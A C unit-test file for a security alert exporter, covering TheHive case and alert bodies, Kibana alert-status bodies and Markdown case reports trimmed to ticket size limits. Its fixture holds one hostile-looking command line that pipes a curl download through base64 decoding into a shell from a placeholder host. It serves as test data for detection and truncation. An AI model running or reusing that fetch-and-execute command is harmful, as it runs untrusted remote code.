/* Several alerts handed over as one case: the TheHive case bundle, the kibana-status bodies and
 * the Markdown case report, checked against what the tools document, and TheHive's limits on
 * observables and procedures in every TheHive export.
 *
 * What the bodies must be, and where it is written:
 * - TheHive 5 InputCase (thehive4py types/case.py, TheHive's API docs "Create case"): title and
 *   description required; severity 1-4, startDate in epoch ms, tags a list of strings, tlp and
 *   pap 0-4, tasks InputTask (title required; status Waiting, InProgress, Completed or Cancel;
 *   group, mandatory, order).
 * - TheHive InputAlert ("Create alert"): type, source, sourceRef (unique per type and source),
 *   title and description required; observables {dataType, data}; procedures {patternId,
 *   occurDate, tactic} with the tactic as ATT&CK's kill chain phase ("persistence").
 * - TheHive 4 refuses a whole alert whose observable value is longer than 512 characters.
 * - Kibana POST /api/detection_engine/signals/status: {signal_ids: [string], status: open |
 *   closed | acknowledged | in-progress, reason?}; one status per body; 9.2+ deletes
 *   kibana.alert.workflow_reason when the body has no reason.
 * - A ticket's comment: Jira takes 32,767 characters; casebook keeps a report within 32,000. */
#include <cJSON.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testutil.h"

#include "common/digest.h"
#include "common/timeutil.h"
#include "detect/detect.h"
#include "detect/rule.h"
#include "export/export.h"
#include "ingest/ingest.h"
#include "store/alerts.h"
#include "store/store.h"
#include "triage/kibana.h"

#define T0 1714557600000000LL /* 2024-05-01T10:00:00Z */

#define ALERTS_INDEX "\"_index\":\".internal.alerts-security.alerts-default-000001\""

/* A Kibana alert on src-long, whose rule names a sub-technique and a tactic of two words. */
#define LONG_ALERT                                                                                                     \
	"{" ALERTS_INDEX ",\"_id\":\"k-long\",\"_source\":{\"@timestamp\":\"2024-05-01T10:05:00Z\","                   \
	"\"kibana.alert.uuid\":\"k-long\",\"kibana.alert.original_time\":\"2024-05-01T10:01:00Z\","                    \
	"\"kibana.alert.rule.rule_id\":\"obf\",\"kibana.alert.rule.name\":\"Obfuscated download\","                    \
	"\"kibana.alert.rule.type\":\"query\",\"kibana.alert.rule.severity\":\"high\","                                \
	"\"kibana.alert.rule.risk_score\":73,\"kibana.alert.severity\":\"high\",\"kibana.alert.risk_score\":73,"       \
	"\"kibana.alert.workflow_status\":\"acknowledged\",\"kibana.alert.rule.threat\":[{\"framework\":"              \
	"\"MITRE ATT&CK\",\"tactic\":{\"id\":\"TA0005\",\"name\":\"Defense Evasion\",\"reference\":\"r\"},"            \
	"\"technique\":[{\"id\":\"T1027\",\"name\":\"Obfuscated Files or Information\",\"reference\":\"r\","           \
	"\"subtechnique\":[{\"id\":\"T1027.010\",\"name\":\"Command Obfuscation\",\"reference\":\"r\"}]}]},"           \
	"{\"framework\":\"MITRE ATT&CK\",\"tactic\":{\"id\":\"TA0011\",\"name\":\"Command and Control\","              \
	"\"reference\":\"r\"},\"technique\":[{\"id\":\"T1105\",\"name\":\"Ingress Tool Transfer\","                    \
	"\"reference\":\"r\"}]}],\"kibana.alert.ancestors\":[{\"id\":\"src-long\",\"index\":\"logs-endpoint\","        \
	"\"depth\":0,\"type\":\"event\"}],\"event\":{\"kind\":\"signal\"},\"host\":{\"name\":\"mac1\"}}}\n"

static struct store *db;
static char long_command[600];

/* The fixture's two Kibana alerts and the casebook alerts the pack raises on its event, plus a
 * Kibana alert on an event whose command line is 577 bytes long (as in the real corpus). */
static int setup(void **state)
{
	(void)state;
	char *err = NULL;
	static int n;
	char name[32];
	snprintf(name, sizeof(name), "case-%d.db", ++n);
	assert_int_equal(store_open(tu_path(name), STORE_CREATE, &db, &err), 0);
	assert_int_equal(rules_load_pack(db, &(struct diag_sink){diag_to_stream, stderr}), 0);
	struct strbuf cmd;
	strbuf_init(&cmd, 600);
	strbuf_addstr(&cmd, "/bin/sh -c curl -fsSL https://example.org/x | base64 -d | sh #");
	while (cmd.len < 577)
		strbuf_addch(&cmd, (char)('a' + cmd.len % 26));
	snprintf(long_command, sizeof(long_command), "%s", cmd.buf);
	assert_int_equal(strlen(long_command), 577);
	struct strbuf text;
	strbuf_init(&text, 4096);
	strbuf_addf(&text,
	            "{\"_index\":\"logs-endpoint\",\"_id\":\"src-long\",\"_source\":{\"@timestamp\":"
	            "\"2024-05-01T10:01:00Z\",\"event\":{\"kind\":\"event\",\"category\":[\"process\"],\"type\":"
	            "[\"start\"]},\"host\":{\"name\":\"mac1\"},\"process\":{\"name\":\"sh\",\"pid\":9,"
	            "\"command_line\":\"%s\"}}}\n" LONG_ALERT,
	            cmd.buf);
	strbuf_release(&cmd);
	tu_ingest_text(db, text.buf);
	strbuf_release(&text);
	FILE *devnull = fopen("/dev/null", "w");
	struct ingest_options o = {.analyst = "t", .errors = {diag_to_stream, devnull}};
	struct ingest_counts c = {0};
	assert_int_equal(ingest_path(db, "tests/fixtures/kibana-alerts.ndjson", &o, &c), INGEST_OK);
	struct kibana_counts k;
	assert_int_equal(kibana_alerts_import(db, 0, T0, NULL, &k), 0);
	fclose(devnull);
	tu_detect_expect(db, T0, 2);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	store_close(db);
	return 0;
}

struct uuids {
	char *uuid[64];
	size_t n;
};

static int take_uuid(void *ctx, const struct alert_row *a)
{
	struct uuids *u = ctx;
	if (u->n < 64)
		u->uuid[u->n++] = strdup(a->uuid);
	return 0;
}

/* Every alert of the case, by event time then uuid. */
static struct uuids all_alerts(void)
{
	struct uuids u = {0};
	struct alert_query q = {.no_doc = 1};
	assert_int_equal(store_alerts_each(db, &q, take_uuid, &u), 0);
	return u;
}

static void uuids_free(struct uuids *u)
{
	for (size_t i = 0; i < u->n; i++)
		free(u->uuid[i]);
}

static char *export_some(char *const *uuids, size_t n, enum export_format f, char *note, size_t note_len)
{
	struct export_options o = {.before_us = 60 * TIME_US_PER_SEC,
	                           .after_us = 60 * TIME_US_PER_SEC,
	                           .now_us = T0,
	                           .note = note,
	                           .note_len = note_len};
	struct strbuf out;
	strbuf_init(&out, 65536);
	assert_int_equal(export_alerts(db, uuids, n, f, &o, &out), 0);
	return strbuf_detach(&out, NULL);
}

static const char *str(const cJSON *o, const char *key)
{
	const cJSON *v = cJSON_GetObjectItemCaseSensitive(o, key);
	if (!cJSON_IsString(v))
		fail_msg("%s is not a string", key);
	return v->valuestring;
}

static double num(const cJSON *o, const char *key)
{
	const cJSON *v = cJSON_GetObjectItemCaseSensitive(o, key);
	if (!cJSON_IsNumber(v))
		fail_msg("%s is not a number", key);
	return v->valuedouble;
}

/* An observable: dataType and data strings, data within TheHive 4's 512 characters. */
static void check_observable(const cJSON *ob)
{
	static const char *const types[] = {"hostname", "other", "filename", "hash", "ip", "domain", "url"};
	const char *type = str(ob, "dataType");
	size_t k = 0;
	while (k < 7 && strcmp(types[k], type))
		k++;
	assert_true(k < 7);
	assert_true(strlen(str(ob, "data")) <= 512);
	assert_true(cJSON_IsArray(cJSON_GetObjectItemCaseSensitive(ob, "tags")));
}

/* The 577-byte command line is cut to fit, marked, and its whole SHA-256 is in the message;
 * the procedures are the sub-technique and the technique, under their tactics' phase names. */
static void test_thehive_alert_keeps_to_thehive_limits(void **state)
{
	(void)state;
	char *u = "kibana:k-long";
	char *json = export_some(&u, 1, EXPORT_THEHIVE, NULL, 0);
	cJSON *body = cJSON_Parse(json);
	assert_non_null(body);
	const cJSON *ob, *cut = NULL;
	cJSON_ArrayForEach(ob, cJSON_GetObjectItemCaseSensitive(body, "observables"))
	{
		check_observable(ob);
		if (!strcmp(cJSON_GetStringValue(cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(ob, "tags"), 0)),
		            "process.command_line") &&
		    !strcmp(str(ob, "dataType"), "other"))
			cut = ob;
	}
	assert_non_null(cut);
	const char *data = str(cut, "data");
	assert_int_equal(strlen(data), 512);                  /* 504 bytes and the 8-byte marker */
	assert_memory_equal(data, long_command, 504);         /* the value's start, as it is */
	assert_string_equal(data + 504, "\xe2\x80\xa6[cut]"); /* "…[cut]" */
	char hex[SHA256_HEX_LEN + 1], want[300];
	sha256_hex(long_command, 577, hex);
	snprintf(want, sizeof(want),
	         "its command line (cut from 577 bytes to fit TheHive's 512; SHA-256 of the whole: %s)", hex);
	assert_string_equal(str(cut, "message"), want);
	assert_non_null(strstr(json, "\"tags\":[\"process.command_line\",\"casebook:cut\"]"));
	/* the URL in it is an observable of its own, whole */
	assert_non_null(strstr(json, "{\"dataType\":\"url\",\"data\":\"https://example.org/x\""));
	char *procedures = cJSON_PrintUnformatted(cJSON_GetObjectItemCaseSensitive(body, "procedures"));
	assert_string_equal(
	    procedures, "[{\"patternId\":\"T1027.010\",\"occurDate\":1714557660000,\"tactic\":\"defense-evasion\"},"
	                "{\"patternId\":\"T1105\",\"occurDate\":1714557660000,\"tactic\":\"command-and-control\"}]");
	cJSON_free(procedures);
	cJSON_Delete(body);
	free(json);
}

/* One body per status and reason, naming only the alerts Kibana raised; the note says which
 * were left out. */
static void test_kibana_status_is_one_body_per_status_of_kibana_alerts(void **state)
{
	(void)state;
	struct uuids u = all_alerts();
	assert_int_equal(u.n, 5);
	char note[300];
	char *json = export_some(u.uuid, u.n, EXPORT_KIBANA_STATUS, note, sizeof(note));
	/* in the order given (event time, then uuid): k-alert-1 closed at 10:00, k-long acknowledged
	 * at 10:01, k-alert-2 open at 10:06 */
	assert_string_equal(json,
	                    "[{\"signal_ids\":[\"k-alert-1\"],\"status\":\"closed\",\"reason\":\"false_positive\"},"
	                    "{\"signal_ids\":[\"k-long\"],\"status\":\"acknowledged\"},"
	                    "{\"signal_ids\":[\"k-alert-2\"],\"status\":\"open\"}]\n");
	assert_non_null(strstr(note, "2 alerts raised by casebook, not Kibana ("));
	assert_non_null(strstr(note, "), are not in the kibana-status body: Kibana has no such alert"));
	free(json);
	/* the same status: one body with every signal id */
	char *two[] = {"kibana:k-long", "kibana:k-alert-2"};
	note[0] = 'x';
	json = export_some(two, 2, EXPORT_KIBANA_STATUS, note, sizeof(note));
	assert_string_equal(note, "");
	assert_string_equal(json, "[{\"signal_ids\":[\"k-long\"],\"status\":\"acknowledged\"},"
	                          "{\"signal_ids\":[\"k-alert-2\"],\"status\":\"open\"}]\n");
	free(json);
	uuids_free(&u);
}

/* One TheHive case: the case body, each alert's body, the case's observables; every part as
 * TheHive's API takes it. */
static void test_thehive_case_is_one_case_with_its_alerts(void **state)
{
	(void)state;
	struct uuids u = all_alerts();
	char *json = export_some(u.uuid, u.n, EXPORT_THEHIVE_CASE, NULL, 0);
	cJSON *root = cJSON_Parse(json);
	assert_non_null(root);
	assert_int_equal(cJSON_GetArraySize(root), 3);
	const cJSON *c = cJSON_GetObjectItemCaseSensitive(root, "case");
	assert_string_equal(str(c, "title"), "Case: 5 alerts on 1 host");
	assert_memory_equal(str(c, "description"), "# Case: 5 alerts on 1 host\n", 27);
	assert_int_equal((int)num(c, "severity"), 3); /* the highest: k-alert-2 and k-long are high */
	assert_int_equal((long long)num(c, "startDate"), T0 / 1000);
	assert_int_equal((int)num(c, "tlp"), 2);
	assert_int_equal((int)num(c, "pap"), 2);
	const cJSON *t, *tasks = cJSON_GetObjectItemCaseSensitive(c, "tasks");
	assert_true(cJSON_GetArraySize(tasks) > 0);
	int order = 0;
	cJSON_ArrayForEach(t, tasks)
	{
		assert_true(*str(t, "title"));
		const char *status = str(t, "status");
		assert_true(!strcmp(status, "Waiting") || !strcmp(status, "InProgress") ||
		            !strcmp(status, "Completed") || !strcmp(status, "Cancel"));
		assert_int_equal((int)num(t, "order"), order++);
		assert_true(cJSON_IsBool(cJSON_GetObjectItemCaseSensitive(t, "mandatory")));
		/* each item once: the three Kibana alerts share casebook's default checklist */
		const cJSON *o;
		int same = 0;
		cJSON_ArrayForEach(o, tasks) same +=
		    !strcmp(str(o, "title"), str(t, "title")) && !strcmp(str(o, "group"), str(t, "group"));
		assert_int_equal(same, 1);
	}
	const cJSON *a, *alerts = cJSON_GetObjectItemCaseSensitive(root, "alerts");
	assert_int_equal(cJSON_GetArraySize(alerts), 5);
	size_t i = 0;
	cJSON_ArrayForEach(a, alerts)
	{
		assert_string_equal(str(a, "type"), "casebook");
		assert_string_equal(str(a, "source"), "casebook");
		assert_string_equal(str(a, "sourceRef"), u.uuid[i++]); /* unique: the alerts' uuids */
		assert_true(*str(a, "title") && *str(a, "description"));
		const cJSON *ob;
		cJSON_ArrayForEach(ob, cJSON_GetObjectItemCaseSensitive(a, "observables")) check_observable(ob);
	}
	const cJSON *ob, *obs = cJSON_GetObjectItemCaseSensitive(root, "observables");
	assert_true(cJSON_GetArraySize(obs) > 0);
	cJSON_ArrayForEach(ob, obs)
	{
		check_observable(ob);
		const cJSON *o2;
		int same = 0;
		cJSON_ArrayForEach(o2, obs) same +=
		    !strcmp(str(o2, "dataType"), str(ob, "dataType")) && !strcmp(str(o2, "data"), str(ob, "data"));
		assert_int_equal(same, 1);
	}
	cJSON_Delete(root);
	free(json);
	uuids_free(&u);
}

/* Forty alerts: the overview and the summary whole, each alert's detail cut to its share with a
 * marker, the fences closed, the whole within 32,000 bytes. */
static void test_markdown_case_fits_a_ticket(void **state)
{
	(void)state;
	struct strbuf text;
	strbuf_init(&text, 65536);
	for (int i = 0; i < 40; i++)
		strbuf_addf(&text,
		            "{" ALERTS_INDEX
		            ",\"_id\":\"m%02d\",\"_source\":{\"@timestamp\":\"2024-05-02T10:%02d:00Z\","
		            "\"kibana.alert.uuid\":\"m%02d\",\"kibana.alert.rule.rule_id\":\"r%d\","
		            "\"kibana.alert.rule.name\":\"Rule %d\",\"kibana.alert.rule.type\":\"query\","
		            "\"kibana.alert.severity\":\"low\",\"kibana.alert.risk_score\":21,"
		            "\"kibana.alert.workflow_status\":\"open\",\"event\":{\"kind\":\"signal\"},"
		            "\"host\":{\"name\":\"mac%d\"}}}\n",
		            i, i, i, i % 7, i % 7, i % 3);
	tu_ingest_text(db, text.buf);
	strbuf_release(&text);
	FILE *devnull = fopen("/dev/null", "w");
	struct kibana_counts k;
	assert_int_equal(kibana_alerts_import(db, 0, T0, NULL, &k), 0);
	fclose(devnull);
	char *uuids[40], names[40][32];
	for (int i = 0; i < 40; i++) {
		snprintf(names[i], sizeof(names[i]), "kibana:m%02d", i);
		uuids[i] = names[i];
	}
	char *md = export_some(uuids, 40, EXPORT_MARKDOWN, NULL, 0);
	assert_true(strlen(md) <= 32000);
	assert_memory_equal(md, "# Case: 40 alerts on 3 hosts\n", 29);
	assert_non_null(strstr(md, "| Alerts | 40: 40 low |\n| Status | 40 open |\n"));
	assert_non_null(strstr(md, "| Rules | 7: Rule 0, Rule 1, Rule 2, Rule 3, Rule 4, Rule 5, Rule 6 |\n"));
	for (int i = 0; i < 40; i++) {
		char row[128];
		snprintf(row, sizeof(row), "| %d | kibana:m%02d | 2024-05-02T10:%02d:00.000000Z | low | Rule %d |",
		         i + 1, i, i, i % 7);
		if (!strstr(md, row))
			fail_msg("the summary has no row %s", row);
	}
	/* detail cut to a share, or left out with a line that says so; never the summary */
	assert_true(
	    tu_count(md, "'s detail is cut here to fit a ticket") + tu_count(md, "is left out to fit a ticket") > 0);
	assert_non_null(strstr(md, "## 1. Rule 0\n"));
	assert_int_equal(tu_count(md, "\n```") % 2, 0);
	assert_int_equal(tu_count(md, "Audit anchor of the case"), 1);
	free(md);
	/* two short alerts: whole, nothing cut */
	md = export_some(uuids, 2, EXPORT_MARKDOWN, NULL, 0);
	assert_null(strstr(md, "to fit a ticket"));
	assert_non_null(strstr(md, "\n---\n\n## 2. Rule 1\n"));
	free(md);
}

/* Four hundred alerts: the summary lists those that fit (rows in order, 1 first) and says how
 * many more there are; the whole still within 32,000 bytes. */
static void test_markdown_case_of_many_alerts_lists_what_fits(void **state)
{
	(void)state;
	enum { MANY = 400 };
	struct strbuf text;
	strbuf_init(&text, 1 << 18);
	for (int i = 0; i < MANY; i++)
		strbuf_addf(&text,
		            "{" ALERTS_INDEX
		            ",\"_id\":\"n%03d\",\"_source\":{\"@timestamp\":\"2024-05-03T%02d:%02d:00Z\","
		            "\"kibana.alert.uuid\":\"n%03d\",\"kibana.alert.rule.rule_id\":\"r1\","
		            "\"kibana.alert.rule.name\":\"Rule 1\",\"kibana.alert.rule.type\":\"query\","
		            "\"kibana.alert.severity\":\"high\",\"kibana.alert.risk_score\":73,"
		            "\"kibana.alert.workflow_status\":\"open\",\"event\":{\"kind\":\"signal\"},"
		            "\"host\":{\"name\":\"mac1\"}}}\n",
		            i, i / 60, i % 60, i);
	tu_ingest_text(db, text.buf);
	strbuf_release(&text);
	struct kibana_counts k;
	assert_int_equal(kibana_alerts_import(db, 0, T0, NULL, &k), 0);
	char *uuids[MANY], names[MANY][32];
	for (int i = 0; i < MANY; i++) {
		snprintf(names[i], sizeof(names[i]), "kibana:n%03d", i);
		uuids[i] = names[i];
	}
	char *md = export_some(uuids, MANY, EXPORT_MARKDOWN, NULL, 0);
	assert_true(strlen(md) <= 32000);
	assert_non_null(strstr(md, "| Alerts | 400: 400 high |\n"));
	assert_non_null(
	    strstr(md, "| 1 | kibana:n000 | 2024-05-03T00:00:00.000000Z | high | Rule 1 | mac1 | open |\n"));
	int listed = tu_count(md, " | high | Rule 1 | mac1 | open |\n");
	assert_true(listed > 100 && listed < MANY);
	char more[128];
	snprintf(more, sizeof(more),
	         "\n*%d more alerts are not listed to fit a ticket: `casebook alerts` lists every one.*\n",
	         MANY - listed);
	assert_non_null(strstr(md, more));
	char last[64];
	snprintf(last, sizeof(last), "| %d | kibana:n%03d |", listed, listed - 1); /* no gap before the cut */
	assert_non_null(strstr(md, last));
	assert_int_equal(tu_count(md, "Audit anchor of the case"), 1);
	free(md);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(test_thehive_alert_keeps_to_thehive_limits, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_kibana_status_is_one_body_per_status_of_kibana_alerts, setup,
	                                    teardown),
	    cmocka_unit_test_setup_teardown(test_thehive_case_is_one_case_with_its_alerts, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_markdown_case_fits_a_ticket, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_markdown_case_of_many_alerts_lists_what_fits, setup, teardown),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	tu_cleanup();
	return rc;
}
